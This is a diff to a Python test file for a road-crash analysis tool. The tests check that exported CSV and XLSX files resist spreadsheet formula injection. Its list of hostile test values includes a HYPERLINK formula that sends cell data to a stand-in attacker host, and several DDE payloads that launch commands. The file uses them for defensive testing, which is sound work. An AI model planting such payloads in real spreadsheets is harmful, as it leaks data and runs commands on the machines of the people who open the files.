@@ -1,6 +1,7 @@
 """Every spreadsheet the tool writes is safe to open: no formula cell, and no
 text that a spreadsheet would run as a formula (CSV injection), while numbers
 stay numbers."""
+
 from __future__ import annotations
 
 import csv
@@ -14,8 +15,14 @@ import cli
 from services.exports import crashes_per_spot, export, hotspot_table, table_export
 from services.tabular import FORMULA_START
 
-HOSTILE = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"bấm\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"bấm")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _unsafe(text: str) -> bool:
@@ -86,8 +93,16 @@ def test_cli_outputs_are_safe(tmp_path, monkeypatch):
     """`blackspots --out` (CSV and XLSX) with hostile crash ids, and the import report with hostile values."""
     rows = []
     for i in range(4):  # four injury crashes within 500 m: one black spot
-        rows.append({"id": HOSTILE[i], "road": "QL24", "chainage_m": 140_000 + 50 * i, "date": f"0{i + 1}/03/2024",
-                     "deaths": 0, "injured": 1})
+        rows.append(
+            {
+                "id": HOSTILE[i],
+                "road": "QL24",
+                "chainage_m": 140_000 + 50 * i,
+                "date": f"0{i + 1}/03/2024",
+                "deaths": 0,
+                "injured": 1,
+            }
+        )
     pd.DataFrame(rows).to_csv(tmp_path / "vu.csv", index=False)
     for ext in ("csv", "xlsx"):
         out = tmp_path / f"ds.{ext}"
@@ -98,9 +113,16 @@ def test_cli_outputs_are_safe(tmp_path, monkeypatch):
         else:
             assert_safe_xlsx(out.read_bytes())
     monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'kho.sqlite'}")
-    bad = pd.DataFrame({"Mã vụ": HOSTILE, "Ngày giờ": ["=1+1"] * len(HOSTILE), "Kinh độ": [105.1] * len(HOSTILE),
-                        "Vĩ độ": [14.5] * len(HOSTILE), "Số người chết": ["@x"] * len(HOSTILE),
-                        "Số người bị thương": [0] * len(HOSTILE)})
+    bad = pd.DataFrame(
+        {
+            "Mã vụ": HOSTILE,
+            "Ngày giờ": ["=1+1"] * len(HOSTILE),
+            "Kinh độ": [105.1] * len(HOSTILE),
+            "Vĩ độ": [14.5] * len(HOSTILE),
+            "Số người chết": ["@x"] * len(HOSTILE),
+            "Số người bị thương": [0] * len(HOSTILE),
+        }
+    )
     bad.to_csv(tmp_path / "xau.csv", index=False)
     report = tmp_path / "bao_cao.csv"
     assert cli.main(["import", "crashes", str(tmp_path / "xau.csv"), "--report", str(report)]) == 1
